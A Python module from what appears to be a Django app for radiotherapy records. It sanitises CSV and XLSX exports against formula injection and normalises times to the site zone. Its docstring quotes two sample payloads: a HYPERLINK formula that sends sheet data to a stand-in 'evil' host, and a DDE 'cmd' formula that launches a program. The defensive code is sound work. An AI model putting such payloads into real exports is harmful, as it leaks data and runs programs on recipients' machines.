"""Spreadsheet exports that cannot run what they hold (CSV and formula injection).

Patient and plan names come from Pinnacle files, MRNs and cells from R&V listings, file names from
whoever named the file: anyone who can type a plan name can make it start with ``=``. Excel, WPS and
LibreOffice read a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as
a formula (``=HYPERLINK("http://evil/?"&A1,"click")`` sends the sheet away, ``=cmd|' /C calc'!A0``
starts a program), and openpyxl stores a text value that starts with ``=`` as a live XLSX formula.

Every table export is a ``SafeTableExport`` (``audit.exports.AuditedExportMixin`` uses it):

* CSV: a text cell that starts like a formula gets a leading apostrophe (``'=HYPERLINK(...)``), the
  OWASP advice: a spreadsheet then takes the cell as text.
* XLSX: every text cell is stored as text, never as a formula or an error code, with the original
  characters (no apostrophe); one that starts like a formula also carries Excel's quote prefix, so
  editing it in Excel keeps it text.

Only text is touched: numbers, dates and booleans are written as typed values (a negative number stays
a number). Other formats (TSV, ODS, JSON, ...) are not offered: they would bypass both rules.

Exports are data, not page text: a time is in the site's time zone (the one the page shows, made
active by the middleware), to the second; a CSV cell carries its UTC offset (``2026-03-02
08:05:00+08:00``), an XLSX cell is a real date-time cell whose column header names the zone; the
pages' "—" for nothing is an empty cell. A CSV is UTF-8 with a byte-order mark, which Excel needs to
read Chinese names.
"""
from __future__ import annotations

import datetime as dt
import re
from typing import Any

from django.utils import timezone
from django_tables2.export import TableExport
from tablib import Dataset
from tablib.formats._xlsx import XLSXFormat  # tablib names its XLSX writer only in this module

from core.table_values import export_values

# The first characters that make a spreadsheet read a cell as a formula; the full-width forms are
# accepted as formula signs by WPS and by Excel in Chinese locales.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")


def starts_like_formula(value: Any) -> bool:
    """Whether ``value`` is text that a spreadsheet would read as a formula."""
    return isinstance(value, str) and value[:1] in FORMULA_STARTS


def neutralise_cell(value: Any) -> Any:
    """The value to write into a CSV cell: text that starts like a formula gets a leading apostrophe;
    any other value, typed values included, is returned unchanged."""
    return "'" + value if starts_like_formula(value) else value


def keep_text_as_text(cell) -> None:
    """Store an openpyxl cell that holds text as text: openpyxl types a str starting with ``=`` as a
    formula (``f``) and ``#N/A`` and the like as errors (``e``) when it is assigned."""
    if not isinstance(cell.value, str):
        return
    cell.data_type = "s"
    if starts_like_formula(cell.value):
        cell.quotePrefix = True  # what Excel sets for a cell typed with a leading apostrophe


# What a table's plain column gives for an aware datetime: ``str()`` of it (tables2 exports text).
_AWARE_TEXT = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d")
EMPTY = "—"  # the pages' mark for nothing


def data_cell(value: Any) -> Any:
    """A cell as data: an aware time in the active (site) zone to the second, the empty mark as nothing."""
    if isinstance(value, str):
        if value == EMPTY:
            return ""
        if _AWARE_TEXT.fullmatch(value):
            value = dt.datetime.fromisoformat(value)
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        return timezone.localtime(value).replace(microsecond=0)
    return value


def neutralised_dataset(dataset: Dataset) -> Dataset:
    """A copy of ``dataset`` with every cell, headers included, passed through ``neutralise_cell``."""
    copy = Dataset(title=dataset.title)
    if dataset.headers is not None:
        copy.headers = [neutralise_cell(value) for value in dataset.headers]
    for row in dataset:
        copy.append([neutralise_cell(value) for value in row])
    return copy


def data_dataset(dataset: Dataset, *, naive_times: bool) -> Dataset:
    """``dataset`` with every cell through ``data_cell``; with ``naive_times`` (XLSX, which has no zones)
    times lose their offset and their column header names the zone instead."""
    rows = [[data_cell(value) for value in row] for row in dataset]
    headers = list(dataset.headers or [])
    if naive_times:
        zone = timezone.get_current_timezone_name()
        timed = {i for row in rows for i, value in enumerate(row) if isinstance(value, dt.datetime)}
        rows = [[v.replace(tzinfo=None) if isinstance(v, dt.datetime) else v for v in row] for row in rows]
        headers = [f"{h} ({zone})" if i in timed else h for i, h in enumerate(headers)]
    copy = Dataset(title=dataset.title)
    if dataset.headers is not None:
        copy.headers = headers
    for row in rows:
        copy.append(row)
    return copy


class _TextKeepingXLSX(XLSXFormat):
    """tablib's XLSX writer (bold header, frozen first row, column widths) with text kept text."""

    @classmethod
    def dset_sheet(cls, dataset, ws, *args, **kwargs):
        super().dset_sheet(dataset, ws, *args, **kwargs)
        for row in ws.iter_rows():
            for cell in row:
                keep_text_as_text(cell)
                if isinstance(cell.value, dt.datetime):
                    cell.number_format = "yyyy-mm-dd hh:mm:ss"


class SafeTableExport(TableExport):
    """django-tables2's export, limited to CSV and XLSX, with formula-like text made inert."""

    FORMATS = {name: TableExport.FORMATS[name] for name in (TableExport.CSV, TableExport.XLSX)}

    @classmethod
    def is_valid_format(cls, export_format):
        return export_format in cls.FORMATS

    def table_to_dataset(self, table, exclude_columns, dataset_kwargs=None):
        """The library's dataset, its rows read by ``core.table_values.export_values`` (the same values)."""
        try:
            title = table.Meta.model._meta.verbose_name_plural.title()
        except AttributeError:
            title = "Export Data"
        dataset = Dataset(**{"title": title, **(dataset_kwargs or {})})
        values = export_values(table, exclude_columns or ())
        dataset.headers = next(values)
        for row in values:
            dataset.append(row)
        return dataset

    def export(self):
        if self.format == self.XLSX:
            return _TextKeepingXLSX.export_set(data_dataset(self.dataset, naive_times=True))
        # A byte-order mark first: Excel on Chinese Windows reads a CSV without one in the local code page
        # (GBK) and garbles every name.
        return "\ufeff" + neutralised_dataset(data_dataset(self.dataset, naive_times=False)).export(self.format)
